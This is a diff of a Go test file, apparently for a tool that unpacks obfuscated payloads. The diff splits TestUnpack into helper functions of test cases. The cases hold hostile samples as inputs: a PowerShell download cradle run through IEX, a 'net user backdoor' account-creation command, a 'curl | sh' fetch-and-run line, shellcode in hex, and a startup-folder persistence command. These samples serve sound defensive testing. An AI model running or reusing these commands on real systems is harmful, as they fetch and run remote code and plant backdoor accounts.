@@ -14,17 +14,17 @@ import (
 
 const cradle = `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')`
 
-func TestUnpack(t *testing.T) {
-	pe := fakePE(1024)
-	peSum := sha256.Sum256(pe)
-	peHash := hex.EncodeToString(peSum[:])
-	sc := shellcode(80)
-	tests := []struct {
-		name      string
-		in        string
-		wantText  string
-		wantSteps []string
-	}{
+// unpackCase is one input of TestUnpack with its decoded text and steps.
+type unpackCase struct {
+	name      string
+	in        string
+	wantText  string
+	wantSteps []string
+}
+
+// scriptCases are PowerShell and loader command lines.
+func scriptCases(t *testing.T) []unpackCase {
+	return []unpackCase{
 		{
 			name:      "powershell encoded download cradle",
 			in:        `powershell.exe -nop -w hidden -enc ` + psEnc(cradle),
@@ -65,6 +65,17 @@ func TestUnpack(t *testing.T) {
 			wantText:  "a net user backdoor P@ssw0rd /add b #!/bin/sh\ncurl -fsSL http://203.0.113.50/x.sh | sh\n",
 			wantSteps: []string{"d1 p-1 base64>zlib text: net user backdoor P@ssw0rd /add", "d1 p-1 base64>bzip2 text: #!/bin/sh\ncurl -fsSL http://203.0.113.50/x.sh | sh\n"},
 		},
+	}
+}
+
+// encodingCases are the other encodings, files, and text with nothing to
+// decode.
+func encodingCases(t *testing.T) []unpackCase {
+	pe := fakePE(1024)
+	peSum := sha256.Sum256(pe)
+	peHash := hex.EncodeToString(peSum[:])
+	sc := shellcode(80)
+	return []unpackCase{
 		{
 			name:      "hex shellcode forms",
 			in:        `buf = "` + escapedHexOf(sc[:16]) + `"; [Byte[]]$b = ` + hexListOf(sc[:20]) + `; sc=` + hex.EncodeToString(sc),
@@ -102,6 +113,10 @@ func TestUnpack(t *testing.T) {
 			wantText: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\update_service_helper.ps1 d41d8cd98f00b204e9800998ecf8427e {8a2e0370-7334-4a3b-9c1d-0123456789ab} /usr/lib/x86_64-linux-gnu/libcrypto.so.3 AdministratorsGroupMembershipChangedEvent`,
 		},
 	}
+}
+
+func TestUnpack(t *testing.T) {
+	tests := append(scriptCases(t), encodingCases(t)...)
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			res, err := Unpack(context.Background(), tt.in, Limits{})
